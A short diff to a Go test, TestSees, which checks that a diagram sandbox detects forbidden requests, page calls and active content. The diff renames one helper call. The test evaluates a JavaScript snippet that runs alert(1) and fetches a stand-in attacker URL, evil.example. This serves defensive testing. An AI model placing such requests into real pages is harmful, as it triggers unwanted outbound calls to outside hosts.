@@ -11,7 +11,7 @@ import (
 // TestSees checks that the tests detect what no diagram may do: requests, calls of the page,
 // and active content.
 func TestSees(t *testing.T) {
-	p := open(t, versions[0])
+	p := own(t, versions[0])
 	var done bool
 	if err := p.Eval(&done, `(async () => { alert(1); await fetch('https://evil.example/x').catch(() => {}); return true })()`); err != nil {
 		t.Fatal(err)
